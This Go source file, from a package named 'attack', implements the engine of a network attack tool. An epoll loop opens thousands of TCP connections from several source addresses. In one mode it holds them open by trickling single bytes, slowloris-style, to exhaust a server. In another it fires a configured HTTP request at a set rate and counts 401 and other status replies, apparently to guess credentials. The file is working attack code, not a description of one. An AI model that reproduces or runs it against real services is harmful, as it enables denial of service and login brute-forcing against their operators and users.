package attack

import (
	"context"
	"errors"
	"fmt"
	"time"

	"golang.org/x/sys/unix"
)

const (
	// tick is how often what is due is done, in milliseconds as epoll takes it.
	tick = 2
	// openingRate is how many connections to hold are opened a second at first.
	openingRate = 2000
	// backlog bounds what is made up for after a time without a processor.
	backlog = 20
	// answerSize is more than any answer to a guess has.
	answerSize = 16 << 10
)

// loop is an attack under way, all of it in one thread.
type loop struct {
	cfg   Config
	to    unix.SockaddrInet4
	from  []unix.SockaddrInet4
	epoll int
	conns []conn
	turn  int // the next connection to do something on
	buf   []byte
	done  Done
}

// conn is one connection, or the place of one.
type conn struct {
	fd      int
	state   state
	waiting bool // for the answer to its request
	made    int32
}

type state byte

const (
	closed state = iota
	connecting
	open
)

func newLoop(cfg Config) (*loop, error) {
	to, from, err := cfg.check()
	if err != nil {
		return nil, err
	}
	l := &loop{cfg: cfg, to: unix.SockaddrInet4{Addr: to.Addr().As4(), Port: int(to.Port())},
		conns: make([]conn, cfg.Connections), buf: make([]byte, answerSize)}
	l.done.Status = make(map[string]int)
	for _, addr := range from {
		l.from = append(l.from, unix.SockaddrInet4{Addr: addr.As4()})
	}
	if l.epoll, err = unix.EpollCreate1(unix.EPOLL_CLOEXEC); err != nil {
		return nil, fmt.Errorf("wait for connections: %w", err)
	}
	return l, nil
}

func (l *loop) close() {
	for i := range l.conns {
		l.drop(i)
	}
	unix.Close(l.epoll)
}

// pace says how many of so many a second are due.
type pace struct {
	began time.Time
	done  int64
}

func (p *pace) due(rate int) int {
	due := int64(time.Since(p.began).Seconds()*float64(rate)) - p.done
	p.done += due
	return int(min(due, backlog))
}

func (l *loop) run(ctx context.Context, began func()) error {
	if l.cfg.Kind == Hold {
		opening := pace{began: time.Now()}
		for n := 0; n < len(l.conns) && ctx.Err() == nil; {
			for range min(opening.due(openingRate), len(l.conns)-n) {
				if err := l.begin(n); err != nil {
					return err
				}
				n++
			}
			if err := l.wait(); err != nil {
				return err
			}
		}
	}
	began()
	sending, opening := pace{began: time.Now()}, pace{began: time.Now()}
	for ctx.Err() == nil {
		var err error
		if l.cfg.Kind == Guess {
			err = l.guess(sending.due(l.cfg.Rate))
		} else {
			err = l.hold(sending.due(len(l.conns)), opening.due(l.cfg.Rate))
		}
		if err == nil {
			err = l.wait()
		}
		if err != nil {
			return err
		}
	}
	for i := range l.conns {
		if l.conns[i].state == open {
			l.done.Held++
		}
	}
	return nil
}

// next gives the connection whose turn it is.
func (l *loop) next() int {
	i := l.turn
	l.turn = (l.turn + 1) % len(l.conns)
	return i
}

// guess sends so many guesses.
func (l *loop) guess(due int) error {
	for range due {
		i, looked := l.next(), 1
		for l.conns[i].waiting && looked < len(l.conns) {
			i, looked = l.next(), looked+1
		}
		c := &l.conns[i]
		if c.waiting {
			l.done.Left++
			continue
		}
		c.waiting = true
		if c.state == open && l.send(i) {
			continue
		}
		if err := l.begin(i); err != nil {
			return err
		}
	}
	return nil
}

// hold sends a byte on each of the next connections, and opens so many again that
// were closed.
func (l *loop) hold(bytes, opens int) error {
	for range bytes {
		i := l.next()
		c := &l.conns[i]
		switch {
		case c.state == open:
			if _, err := unix.Write(c.fd, []byte("x")); err != nil && !errors.Is(err, unix.EAGAIN) {
				l.drop(i)
			} else {
				l.done.Sent++
			}
		case c.state == closed && opens > 0:
			opens--
			if err := l.begin(i); err != nil {
				return err
			}
		}
	}
	return nil
}

// begin opens a connection; what is to be sent is sent once it is there.
func (l *loop) begin(i int) error {
	l.forget(i)
	c := &l.conns[i]
	fd, err := unix.Socket(unix.AF_INET, unix.SOCK_STREAM|unix.SOCK_NONBLOCK|unix.SOCK_CLOEXEC, 0)
	if err != nil {
		return fmt.Errorf("open a connection: %w", err)
	}
	c.fd, c.state = fd, connecting
	c.made++
	// The port is chosen with the other end known: there are more of them so.
	err = unix.SetsockoptInt(fd, unix.IPPROTO_IP, unix.IP_BIND_ADDRESS_NO_PORT, 1)
	if err == nil {
		err = unix.Bind(fd, &l.from[i%len(l.from)])
	}
	if err == nil {
		err = unix.EpollCtl(l.epoll, unix.EPOLL_CTL_ADD, fd, &unix.EpollEvent{Events: unix.EPOLLOUT, Fd: int32(i), Pad: c.made})
	}
	if err == nil {
		if err = unix.Connect(fd, &l.to); errors.Is(err, unix.EINPROGRESS) {
			err = nil
		}
	}
	if err != nil {
		return fmt.Errorf("open a connection: %w", err)
	}
	l.done.Opened++
	return nil
}

// send sends the request; false: the other end has closed.
func (l *loop) send(i int) bool {
	if _, err := unix.Write(l.conns[i].fd, []byte(l.cfg.Request)); err != nil {
		l.drop(i)
		return false
	}
	if l.cfg.Kind == Guess {
		l.done.Sent++
	}
	return true
}

// drop closes a connection, whatever waits on it.
func (l *loop) drop(i int) {
	l.forget(i)
	l.conns[i].waiting = false
}

func (l *loop) forget(i int) {
	if c := &l.conns[i]; c.state != closed {
		unix.Close(c.fd)
		c.state = closed
	}
}

// wait does what connections are ready for, for a tick at most.
func (l *loop) wait() error {
	var events [256]unix.EpollEvent
	n, err := unix.EpollWait(l.epoll, events[:], tick)
	if err != nil && !errors.Is(err, unix.EINTR) {
		return fmt.Errorf("wait for connections: %w", err)
	}
	for _, e := range events[:max(n, 0)] {
		i := int(e.Fd)
		if c := &l.conns[i]; c.state != closed && c.made == e.Pad {
			l.ready(i, e)
		}
	}
	return nil
}

func (l *loop) ready(i int, e unix.EpollEvent) {
	c := &l.conns[i]
	if c.state == connecting {
		failed, err := unix.GetsockoptInt(c.fd, unix.SOL_SOCKET, unix.SO_ERROR)
		e.Events = unix.EPOLLIN
		if err != nil || failed != 0 || unix.EpollCtl(l.epoll, unix.EPOLL_CTL_MOD, c.fd, &e) != nil {
			l.drop(i)
			return
		}
		c.state = open
		l.send(i)
		return
	}
	n, err := unix.Read(c.fd, l.buf)
	if errors.Is(err, unix.EAGAIN) {
		return
	}
	if err == nil && n >= len("HTTP/1.1 401") && string(l.buf[:5]) == "HTTP/" {
		l.done.Answered++
		l.done.Status[string(l.buf[9:12])]++
		c.waiting = false
	}
	if err != nil || n <= 0 || l.cfg.Kind == Hold {
		l.drop(i) // it has ended, or is of no use any more
	}
}
